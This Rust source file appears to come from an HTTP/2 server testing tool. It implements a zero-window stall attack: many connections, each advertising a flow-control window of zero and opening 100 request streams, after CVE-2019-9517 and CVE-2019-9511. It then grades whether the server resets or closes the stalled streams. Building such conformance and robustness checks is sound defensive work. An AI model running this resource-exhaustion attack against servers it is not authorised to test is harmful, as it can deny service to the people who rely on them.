//! Answers that may not be sent: many requests, and a window of zero.

use std::time::Duration;

use tokio::time::Instant;

use super::link::Link;
use crate::attack::context::Context;
use crate::attack::definition::Attack;
use crate::attack::evidence::{Evidence, Excuse, Findings, Mark};
use keel_wire::http2::{END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, RST_STREAM, frame, setting};

/// Streams on each connection: what most servers allow at once.
const STREAMS: u32 = 100;
/// Connections at most.
const CONNECTIONS: usize = 100;
/// Between two looks.
const LOOK: Duration = Duration::from_millis(200);

pub(crate) const ATTACK: Attack = Attack {
    id: "h2-window-stall",
    what: "asks on many streams with a window of zero, so that no answer can be sent",
    source: "CVE-2019-9517, CVE-2019-9511 (data dribble); RFC 9113, 10.5",
    correct: "stalled streams are limited in count or ended in time, and others are served meanwhile",
    memory: None,
    launch: |context| Box::pin(launch(context)),
};

async fn launch(context: &Context<'_>) -> Findings {
    let block = context.h2_get();
    let mut asked = Vec::new();
    for stream in (0..STREAMS).map(|number| 2 * number + 1) {
        asked.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &block));
    }
    let mut links = Vec::new();
    while links.len() < CONNECTIONS.min(context.bounds.connections) && context.turns(u64::from(STREAMS)).await {
        match Link::open(context, &setting(INITIAL_WINDOW_SIZE, 0), false).await {
            Ok(mut link) => {
                link.write(&asked).await;
                links.push(link);
            }
            Err(excuse) if links.is_empty() => return Err(excuse),
            Err(Excuse::Unknown(_) | Excuse::NotApplicable(_)) => break,
        }
    }
    let opened = links.len();
    let (mut first_end, mut sent, mut reset) = (None, 0, 0);
    let start = Instant::now();
    while context.left() > Duration::ZERO && !links.is_empty() {
        for link in &mut links {
            link.look(Duration::from_millis(1)).await;
            sent += std::mem::take(&mut link.seen.data);
            reset += std::mem::take(&mut link.seen.frames[usize::from(RST_STREAM)]);
        }
        links.retain(|link| !link.seen.is_over());
        if links.len() < opened {
            first_end.get_or_insert_with(|| start.elapsed());
        }
        tokio::time::sleep(LOOK).await;
    }
    let text = format!("{opened} connections with {STREAMS} stalled requests each");
    let mut evidence = vec![Evidence::new(Mark::Note, text)];
    if sent > 0 {
        let text = format!("{sent} bytes of DATA came although the window is zero (RFC 9113, 6.9.1)");
        evidence.push(Evidence::new(Mark::Wrong, text));
    }
    if reset > 0 {
        evidence.push(Evidence::new(Mark::Right, format!("{reset} streams were reset")));
    }
    if let Some(first) = first_end {
        let text = format!("{} connections were ended, the first after {first:.1?}", opened - links.len());
        evidence.push(Evidence::new(Mark::Right, text));
    }
    if !links.is_empty() {
        let text = format!("{} were still open at the end of {:?}", links.len(), context.bounds.duration);
        evidence.push(Evidence::new(Mark::Tolerated, text));
    }
    Ok(evidence)
}
